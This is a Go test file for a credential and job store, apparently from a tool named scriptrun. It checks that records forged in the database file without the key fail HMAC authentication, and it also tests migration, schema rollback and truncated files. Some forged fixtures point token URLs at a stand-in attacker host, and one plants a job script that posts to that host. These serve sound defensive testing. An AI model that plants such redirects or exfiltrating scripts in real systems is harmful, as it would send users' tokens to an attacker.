package store

import (
	"bytes"
	"crypto/hkdf"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"
)

// tamper rewrites a stored record the way someone with write access to the
// file but not the key can: bbolt opened directly, the record's JSON edited,
// its MAC header (when it has one) left as it was.
func tamper(t *testing.T, path string, bucket, key []byte, edit func(rec map[string]any)) {
	t.Helper()
	tamperRaw(t, path, bucket, key, func(v []byte) []byte {
		header, body := splitStored(v)
		var rec map[string]any
		if err := json.Unmarshal(body, &rec); err != nil {
			t.Fatalf("tamper: %s %q is not JSON: %v", bucket, key, err)
		}
		edit(rec)
		nb, err := json.Marshal(rec)
		if err != nil {
			t.Fatal(err)
		}
		return append(bytes.Clone(header), nb...)
	})
}

// tamperRaw replaces the stored value of a record with edit's result.
func tamperRaw(t *testing.T, path string, bucket, key []byte, edit func(v []byte) []byte) {
	t.Helper()
	b, err := bolt.Open(path, 0o600, &bolt.Options{Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	err = b.Update(func(tx *bolt.Tx) error {
		bk := tx.Bucket(bucket)
		if bk == nil {
			return fmt.Errorf("no bucket %s", bucket)
		}
		v := bk.Get(key)
		if v == nil {
			return fmt.Errorf("no record %q in %s", key, bucket)
		}
		return bk.Put(key, edit(bytes.Clone(v)))
	})
	if err != nil {
		t.Fatalf("tamper: %v", err)
	}
}

// splitStored splits a stored value into its MAC header (none in schema 1)
// and its JSON.
func splitStored(v []byte) (header, body []byte) {
	if i := bytes.IndexByte(v, '{'); i > 0 {
		return v[:i], v[i:]
	}
	return nil, v
}

// setSchema1 makes the file look as schema 1 wrote it: the meta says 1 with
// a key check of schema 1. Records are left as they are.
func setSchema1(tx *Tx) error {
	meta := tx.bolt().Bucket(bucketMeta)
	if err := meta.Put(keySchema, []byte("1")); err != nil {
		return err
	}
	return meta.Put(keyCheck, tx.db.seal.seal(keyCheckPlain, keyCheck))
}

// seedAll stores two of each authenticated kind (one to forge, one that
// must stay readable) and the admin password.
func seedAll(t *testing.T, db *DB) uint64 {
	t.Helper()
	hash, err := HashAdminPassword("correct horse battery")
	must(t, err)
	var reqID uint64
	must(t, db.Update(func(tx *Tx) error {
		for _, n := range []string{"graph", "other"} {
			if err := tx.CreateProvider(testProvider(n)); err != nil {
				return err
			}
		}
		for _, n := range []string{"mail", "fine"} {
			if err := tx.CreateToken(testToken(n, "graph")); err != nil {
				return err
			}
		}
		if err := tx.CreateToken(Token{Name: "static", Type: TypeBearer, Active: true, BaseURL: "https://api.example.com",
			Expires: time.Now().Add(time.Hour).UTC(), Secret: Secret{AccessToken: "static-bearer-SECRET-0123"}}); err != nil {
			return err
		}
		for _, n := range []string{"sync", "report"} {
			if err := tx.CreateJob(testJob(n)); err != nil {
				return err
			}
		}
		r, err := tx.RequestRun("sync")
		reqID = r.ID
		if err != nil {
			return err
		}
		return tx.SetAdminPassword(hash)
	}))
	return reqID
}

// Every security-relevant field, forged in the file without the key, makes
// its record refused with an error naming it and the fix, while the other
// records of its kind still list.
func TestForgedRecordsRefused(t *testing.T) {
	const attacker = "https://attacker.example/collect"
	set := func(field string, v any) func(map[string]any) {
		return func(rec map[string]any) { rec[field] = v }
	}
	tests := []struct {
		name   string
		bucket []byte
		key    string
		edit   func(map[string]any)
		kind   string
	}{
		{"provider token URL", bucketProviders, "graph", set("tokenUrl", attacker), kindProvider},
		{"provider authorization URL", bucketProviders, "graph", set("authorizationUrl", attacker), kindProvider},
		{"provider revocation URL", bucketProviders, "graph", set("revocationUrl", attacker), kindProvider},
		{"provider scopes", bucketProviders, "graph", set("scopes", []string{"Mail.Send", "offline_access"}), kindProvider},
		{"provider auth style", bucketProviders, "graph", set("authStyle", AuthStyleBody), kindProvider},
		{"token base URL", bucketTokens, "mail", set("baseUrl", attacker), kindToken},
		{"token type", bucketTokens, "mail", set("type", TypeBearer), kindToken},
		{"token scopes", bucketTokens, "mail", set("scopes", []string{"Mail.Send"}), kindToken},
		{"token provider", bucketTokens, "mail", set("provider", "other"), kindToken},
		{"token expiry", bucketTokens, "static", set("expires", "2099-01-01T00:00:00Z"), kindToken},
		{"token active", bucketTokens, "static", set("active", false), kindToken},
		{"a field added later", bucketTokens, "mail", set("maxMemory", 1), kindToken},
		{"job script and its SHA-256", bucketCronJobs, "sync", func(rec map[string]any) {
			rec["script"] = "http.post('" + attacker + "').send()"
			rec["scriptSha256"] = ScriptDigest(rec["script"].(string))
		}, kindJob},
		{"job arguments", bucketCronJobs, "sync", set("args", []string{"--all"}), kindJob},
		{"admin password set time", bucketAdmin, "password", set("set", "2099-01-01T00:00:00Z"), kindAdmin},
		{"run request job", bucketCronRequests, string(u64(1)), set("job", "report"), kindRunRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			db := openTestDB(t)
			allowDamaged(db) // forged on purpose
			seedAll(t, db)
			tamper(t, db.Path(), tt.bucket, []byte(tt.key), tt.edit)
			checkRefused(t, db, tt.kind, tt.key)
			// CheckRecords, the end-of-test check, finds it too, alone.
			damaged, other := DamagedRecords(db.CheckRecords())
			if other != nil || len(damaged) != 1 || damaged[0].Kind != tt.kind {
				t.Errorf("CheckRecords: damaged %v, other %v; want the forged %s alone", damaged, other, tt.kind)
			}
		})
	}
}

// A record without a MAC (as schema 1 wrote it, or as someone without the
// key writes one), and a record moved to another name, are refused too.
func TestUnauthenticatedAndMovedRecordsRefused(t *testing.T) {
	t.Run("no MAC", func(t *testing.T) {
		db := openTestDB(t)
		allowDamaged(db) // forged on purpose
		seedAll(t, db)
		tamperRaw(t, db.Path(), bucketTokens, []byte("mail"), func(v []byte) []byte {
			_, body := splitStored(v)
			return body
		})
		checkRefused(t, db, kindToken, "mail")
	})
	t.Run("moved", func(t *testing.T) {
		db := openTestDB(t)
		allowDamaged(db) // forged on purpose
		seedAll(t, db)
		var fine []byte
		must(t, db.View(func(tx *Tx) error { fine = bytes.Clone(tx.bolt().Bucket(bucketTokens).Get([]byte("fine"))); return nil }))
		tamperRaw(t, db.Path(), bucketTokens, []byte("mail"), func([]byte) []byte { return fine })
		checkRefused(t, db, kindToken, "mail")
	})
}

// A record taken whole from another home with the same master key (a
// staging home, say, where someone could create records through the
// console) fails authentication: the MAC key is salted with the home's id.
func TestRecordFromAnotherHomeRefused(t *testing.T) {
	db := openTestDB(t)
	allowDamaged(db) // forged on purpose
	seedAll(t, db)
	other, err := Open(filepath.Join(t.TempDir(), "scriptrun.db"), testKey(7), Options{})
	must(t, err)
	p := testProvider("graph")
	p.TokenURL = "https://attacker.example/token"
	must(t, other.Update(func(tx *Tx) error { return tx.CreateProvider(p) }))
	var forged []byte
	must(t, other.View(func(tx *Tx) error {
		forged = bytes.Clone(tx.bolt().Bucket(bucketProviders).Get([]byte("graph")))
		return nil
	}))
	tamperRaw(t, db.Path(), bucketProviders, []byte("graph"), func([]byte) []byte { return forged })
	checkRefused(t, db, kindProvider, "graph")
}

// checkRefused reads the forged record alone and in its list.
func checkRefused(t *testing.T, db *DB, kind, key string) {
	t.Helper()
	name := key
	if kind == kindRunRequest {
		name = "1"
	}
	if kind == kindAdmin {
		name = ""
	}
	var one, list error
	var listed []string
	err := db.View(func(tx *Tx) error {
		switch kind {
		case kindProvider:
			_, one = tx.Provider(key)
			ps, err := tx.Providers()
			list = err
			for _, p := range ps {
				listed = append(listed, p.Name)
			}
		case kindToken:
			_, one = tx.Token(key)
			ts, err := tx.Tokens()
			list = err
			for _, t := range ts {
				listed = append(listed, t.Name)
			}
		case kindJob:
			_, one = tx.Job(key)
			js, err := tx.Jobs()
			list = err
			for _, j := range js {
				listed = append(listed, j.Name)
			}
		case kindRunRequest:
			_, one = tx.RunRequest(1)
			_, list = tx.RunRequests()
		case kindAdmin:
			_, one = tx.AdminPassword()
		}
		return nil
	})
	must(t, err)
	var re *RecordError
	if !errors.As(one, &re) || !errors.Is(one, ErrDamaged) || re.Kind != kind || re.Name != name {
		t.Fatalf("reading the forged %s %q: err = %v, want a *RecordError for it wrapping ErrDamaged", kind, name, one)
	}
	msg := one.Error()
	for _, want := range []string{db.Path(), "restore", "authentic"} {
		if kind == kindAdmin && want == "restore" {
			want = "scriptrun admin password"
		}
		if kind == kindRunRequest && want == "restore" {
			want = "request the run again"
		}
		if !strings.Contains(msg, want) && !(want == "authentic" && strings.Contains(msg, "not authenticated")) {
			t.Errorf("error %q does not say %q", msg, want)
		}
	}
	for _, secret := range []string{"SECRET", "attacker.example", "provider-secret"} {
		if strings.Contains(msg, secret) {
			t.Errorf("error %q shows record content %q", msg, secret)
		}
	}
	if kind == kindAdmin {
		return
	}
	damaged, other := DamagedRecords(list)
	if other != nil || len(damaged) != 1 || damaged[0].Name != name {
		t.Errorf("list read: damaged %v, other error %v; want exactly %s %q damaged", damaged, other, kind, name)
	}
	if kind != kindRunRequest && (len(listed) == 0 || strings.Contains(strings.Join(listed, " "), key)) {
		t.Errorf("list read returned %v: want the other records and not %q", listed, key)
	}
}

// A damaged record can be removed, which is how it is re-created.
func TestDamagedRecordsCanBeRemoved(t *testing.T) {
	db := openTestDB(t)
	reqID := seedAll(t, db)
	forge := func(rec map[string]any) { rec["created"] = "2001-01-01T00:00:00Z" }
	tamper(t, db.Path(), bucketProviders, []byte("other"), forge)
	tamper(t, db.Path(), bucketTokens, []byte("fine"), forge)
	tamper(t, db.Path(), bucketCronJobs, []byte("report"), forge)
	tamper(t, db.Path(), bucketCronRequests, u64(reqID), forge)
	must(t, db.Update(func(tx *Tx) error {
		if err := tx.DeleteProvider("other", false); err != nil {
			return err
		}
		if err := tx.DeleteToken("fine"); err != nil {
			return err
		}
		if err := tx.DeleteRunRequest(reqID); err != nil {
			return err
		}
		return tx.DeleteJob("report")
	}))
	must(t, db.Update(func(tx *Tx) error {
		if err := tx.CreateProvider(testProvider("other")); err != nil {
			return err
		}
		return tx.CreateToken(testToken("fine", "other"))
	}))
	must(t, db.View(func(tx *Tx) error {
		if _, err := tx.Token("fine"); err != nil {
			return err
		}
		_, err := tx.Providers()
		return err
	}))
}

// copyFixture copies testdata/v1-home.db (schema 1, key testKey(7)) into a
// temporary home.
func copyFixture(t *testing.T) string {
	t.Helper()
	src, err := os.Open("testdata/v1-home.db")
	must(t, err)
	defer src.Close()
	path := filepath.Join(t.TempDir(), "scriptrun.db")
	dst, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
	must(t, err)
	_, err = io.Copy(dst, src)
	must(t, err)
	must(t, dst.Close())
	return path
}

func rawSchema(t *testing.T, path string) string {
	t.Helper()
	b, err := bolt.Open(path, 0o600, &bolt.Options{ReadOnly: true, Timeout: time.Second})
	must(t, err)
	defer b.Close()
	var v string
	must(t, b.View(func(tx *bolt.Tx) error { v = string(tx.Bucket(bucketMeta).Get(keySchema)); return nil }))
	return v
}

// A home written by the schema 1 release is migrated on its first open with
// the key: every record gets its MAC in one transaction and reads as it did.
// Without the right key nothing is migrated.
func TestMigrateSchema1Home(t *testing.T) {
	path := copyFixture(t)
	before, err := os.ReadFile(path)
	must(t, err)
	if _, err := Open(path, testKey(8), Options{}); !errors.Is(err, ErrWrongKey) {
		t.Fatalf("open with another key: %v, want ErrWrongKey", err)
	}
	if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
		t.Fatal("an open with the wrong key changed the file")
	}
	if got := rawSchema(t, path); got != "1" {
		t.Fatalf("schema after a wrong-key open = %q, want 1", got)
	}

	db, err := Open(path, testKey(7), Options{})
	must(t, err)
	if got := rawSchema(t, path); got != "2" {
		t.Fatalf("schema after migration = %q, want 2", got)
	}
	var (
		p               Provider
		oauth, static   Token
		job             Job
		admin           AdminPassword
		providers, toks int
	)
	must(t, db.View(func(tx *Tx) (err error) {
		// Every record of an authenticated kind has its MAC.
		for _, ab := range authenticatedBuckets {
			if b := tx.bolt().Bucket(ab.bucket); b != nil {
				if err := b.ForEach(func(k, v []byte) error {
					_, err := tx.db.mac.decode(ab.kind, k, v)
					return err
				}); err != nil {
					return fmt.Errorf("%s %q after migration: %w", ab.kind, "?", err)
				}
			}
		}
		if p, err = tx.Provider(fixtureProvider); err != nil {
			return err
		}
		if oauth, err = tx.Token(fixtureOAuthToken); err != nil {
			return err
		}
		if static, err = tx.Token(fixtureStaticToken); err != nil {
			return err
		}
		if job, err = tx.Job(fixtureJob); err != nil {
			return err
		}
		if admin, err = tx.AdminPassword(); err != nil {
			return err
		}
		ps, err := tx.Providers()
		providers = len(ps)
		if err != nil {
			return err
		}
		ts, err := tx.Tokens()
		toks = len(ts)
		return err
	}))
	want := testToken(fixtureOAuthToken, fixtureProvider)
	if p.ClientSecret != fixtureClientSecret || p.TokenURL != testProvider("x").TokenURL {
		t.Errorf("migrated provider = %+v", p)
	}
	if oauth.Secret.RefreshToken != want.Secret.RefreshToken || oauth.Secret.AccessToken != want.Secret.AccessToken || oauth.BaseURL != want.BaseURL || !oauth.Expires.Equal(want.Expires) {
		t.Errorf("migrated oauth2 token = %+v", oauth)
	}
	if static.Secret.AccessToken != fixtureBearer || static.Type != TypeBearer || static.State != StateAuthorized {
		t.Errorf("migrated bearer token = %+v", static)
	}
	if job.Script != fixtureJobScript || job.ScriptSHA256 != ScriptDigest(fixtureJobScript) {
		t.Errorf("migrated job = %+v", job)
	}
	if ok, err := CheckAdminPassword(admin.Hash, fixtureAdminPwd); err != nil || !ok {
		t.Errorf("migrated admin password does not check: %v %v", ok, err)
	}
	if providers != 1 || toks != 2 {
		t.Errorf("after migration: %d providers, %d tokens; want 1 and 2", providers, toks)
	}

	// A second open finds schema 2 and writes nothing.
	var txid int
	must(t, db.View(func(tx *Tx) error { txid = tx.bolt().ID(); return nil }))
	db2, err := Open(path, testKey(7), Options{})
	must(t, err)
	must(t, db2.View(func(tx *Tx) error {
		if tx.bolt().ID() != txid {
			t.Errorf("second open committed (txid %d -> %d)", txid, tx.bolt().ID())
		}
		return nil
	}))
	must(t, db2.Check())
}

// Someone without the key cannot get a forged record authenticated by
// making the file look like schema 1 again: the sealed key check says 2.
func TestSchemaRollbackRefused(t *testing.T) {
	db := openTestDB(t)
	allowDamaged(db) // forged on purpose
	seedAll(t, db)
	tamper(t, db.Path(), bucketTokens, []byte("mail"), func(rec map[string]any) { rec["baseUrl"] = "https://attacker.example" })
	tamperRaw(t, db.Path(), bucketTokens, []byte("mail"), func(v []byte) []byte { _, body := splitStored(v); return body })
	tamperRaw(t, db.Path(), bucketMeta, keySchema, func([]byte) []byte { return []byte("1") })
	_, err := Open(db.Path(), testKey(7), Options{})
	if !errors.Is(err, ErrDamaged) || !strings.Contains(err.Error(), "key check") {
		t.Fatalf("open after the schema was set back to 1: %v, want ErrDamaged about the key check", err)
	}
	if got := rawSchema(t, db.Path()); got != "1" {
		t.Errorf("the refused open changed the schema to %q", got)
	}
	// Put the number back: the forged record is still refused.
	tamperRaw(t, db.Path(), bucketMeta, keySchema, func([]byte) []byte { return []byte("2") })
	db, err = Open(db.Path(), testKey(7), Options{})
	must(t, err)
	checkRefused(t, db, kindToken, "mail")
}

// A file cut short anywhere gives ErrDamaged naming it, never SIGBUS: both
// when it is opened and when a DB opened before is used.
func TestTruncatedDatabase(t *testing.T) {
	src := openTestDB(t)
	seedAll(t, src)
	must(t, src.Update(func(tx *Tx) error {
		// Enough pages that cuts fall inside branch, leaf and overflow pages.
		for i := range 40 {
			j := testJob(fmt.Sprintf("job-%02d", i))
			j.Script = strings.Repeat("// padding\n", 200+i*50)
			if err := tx.CreateJob(j); err != nil {
				return err
			}
		}
		return nil
	}))
	full, err := os.ReadFile(src.Path())
	must(t, err)
	// bbolt grows the file ahead of use: the pages in use end at the
	// high-water mark of the newer meta page.
	m0, _ := parseBoltMeta(full)
	m1, _ := parseBoltMeta(full[m0.pageSize:])
	hw := int(max(m0.highPage, m1.highPage)) * int(m0.pageSize)
	page := int(m0.pageSize)
	if hw < 20*page {
		t.Fatalf("the test database uses only %d pages", hw/page)
	}
	cuts := []int{100, page / 2, page, page + 100, 2 * page, 3*page + 7, hw / 2, hw - page, hw - 1}
	for _, cut := range cuts {
		t.Run(fmt.Sprintf("at %d of %d", cut, hw), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "scriptrun.db")
			must(t, os.WriteFile(path, full, 0o600))
			db, err := Open(path, testKey(7), Options{})
			must(t, err)
			must(t, os.Truncate(path, int64(cut)))
			for _, op := range []struct {
				name string
				fn   func() error
			}{
				{"open", func() error { _, err := Open(path, testKey(7), Options{}); return err }},
				{"view", func() error { return db.View(func(tx *Tx) error { _, err := tx.Jobs(); return err }) }},
				{"update", func() error { return db.Update(func(tx *Tx) error { return tx.CreateJob(testJob("new")) }) }},
			} {
				err := op.fn()
				if !errors.Is(err, ErrDamaged) || !strings.Contains(err.Error(), path) || !strings.Contains(err.Error(), "restore a backup") {
					t.Errorf("%s of a file cut at %d: %v, want ErrDamaged naming it and saying restore a backup", op.name, cut, err)
				}
			}
		})
	}
}

// TestRecordMACIsItsSpec computes record MACs as record.go's comment
// specifies them, with crypto/hmac and crypto/hkdf directly, for kinds and
// keys of several lengths: the stored form must be exactly that, so that
// every record written before still authenticates.
func TestRecordMACIsItsSpec(t *testing.T) {
	master, homeID := testKey(7), bytes.Repeat([]byte{0x42}, homeIDSize)
	m, err := newRecordMAC(master, homeID)
	must(t, err)
	macKey, err := hkdf.Key(sha256.New, master, homeID, "scriptrun record authentication v1", 32)
	must(t, err)
	for _, tc := range []struct{ kind, key, body string }{
		{kindToken, "mail", `{"name":"mail"}`},
		{kindRunRequest, "\x00\x00\x00\x00\x00\x00\x01\x2f", `{}`},
		{kindAdmin, "", ""},
		{kindJob, strings.Repeat("j", 64), strings.Repeat(`{"a":"b"}`, 300)},
		{strings.Repeat("k", 200), strings.Repeat("n", 300), "x"}, // lengths over one uvarint byte
	} {
		h := hmac.New(sha256.New, macKey)
		h.Write([]byte("scriptrun record\x00"))
		h.Write(binary.AppendUvarint(nil, uint64(len(tc.kind))))
		h.Write([]byte(tc.kind))
		h.Write(binary.AppendUvarint(nil, uint64(len(tc.key))))
		h.Write([]byte(tc.key))
		h.Write([]byte(tc.body))
		want := "hmac-sha256:" + base64.RawStdEncoding.EncodeToString(h.Sum(nil)) + ":" + tc.body
		for range 2 { // the second from a reused hash
			if got := string(m.encode(tc.kind, []byte(tc.key), []byte(tc.body))); got != want {
				t.Errorf("encode(%q, %q) = %q, want %q", tc.kind, tc.key, got, want)
			}
		}
		if body, err := m.decode(tc.kind, []byte(tc.key), []byte(want)); err != nil || string(body) != tc.body {
			t.Errorf("decode(%q, %q) = %q, %v; want the body", tc.kind, tc.key, body, err)
		}
	}
}

// BenchmarkRecordMAC is the cost authentication adds to reading one token
// record (the MAC check alone, without bbolt or JSON).
func BenchmarkRecordMAC(b *testing.B) {
	m, err := newRecordMAC(testKey(7), make([]byte, homeIDSize))
	if err != nil {
		b.Fatal(err)
	}
	body, _ := json.Marshal(tokenRecord{Token: testToken("mail", "graph"), Sealed: make([]byte, 300)})
	stored := m.encode(kindToken, []byte("mail"), body)
	b.SetBytes(int64(len(body)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := m.decode(kindToken, []byte("mail"), stored); err != nil {
			b.Fatal(err)
		}
	}
}

// Several processes opening a schema 1 home at once migrate it once: each
// re-checks the schema inside its write transaction.
func TestConcurrentMigration(t *testing.T) {
	path := copyFixture(t)
	errs := make(chan error, 4)
	for range 4 {
		go func() {
			db, err := Open(path, testKey(7), Options{LockTimeout: 5 * time.Second})
			if err == nil {
				err = db.View(func(tx *Tx) error {
					ts, err := tx.Tokens()
					if err == nil && len(ts) != 2 {
						err = fmt.Errorf("%d tokens", len(ts))
					}
					return err
				})
			}
			errs <- err
		}()
	}
	for range 4 {
		if err := <-errs; err != nil {
			t.Errorf("concurrent open of a schema 1 home: %v", err)
		}
	}
}
